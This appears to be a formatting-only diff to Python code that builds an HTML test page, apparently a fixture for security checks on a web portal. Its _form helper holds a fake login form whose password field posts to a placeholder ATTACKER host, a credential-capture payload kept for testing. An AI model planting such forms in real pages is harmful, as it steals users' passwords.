@@ -70,7 +70,9 @@ def page():
     parts += [f'<p id="{name}" name="{name}">{name}</p>' for name in sorted(ids)]
     for name in ("o_cp_slow", "o_cp_chart", "o_cp_faq_read", "o_cp_form"):
         inner = f'<section class="{name}" id="x"{values}>{_form(name)}</section>'
-        parts.append(f'<div id="wrap"><div class="o_cp_home container">{inner}</div></div>')
+        parts.append(
+            f'<div id="wrap"><div class="o_cp_home container">{inner}</div></div>'
+        )
     return "".join([*parts, *_overlays(), *_scripts()])
 
 
@@ -88,7 +90,7 @@ def _form(name):
         f'<a href="{ATTACKER}/{name}.html">Show</a>'
         f'<form action="{ATTACKER}/form" method="post"><input name="_prints">'
         '<input type="password" name="password"><button>Log in</button></form>'
-        '<details open><summary>x</summary></details><ul></ul>'
+        "<details open><summary>x</summary></details><ul></ul>"
     )
 
 
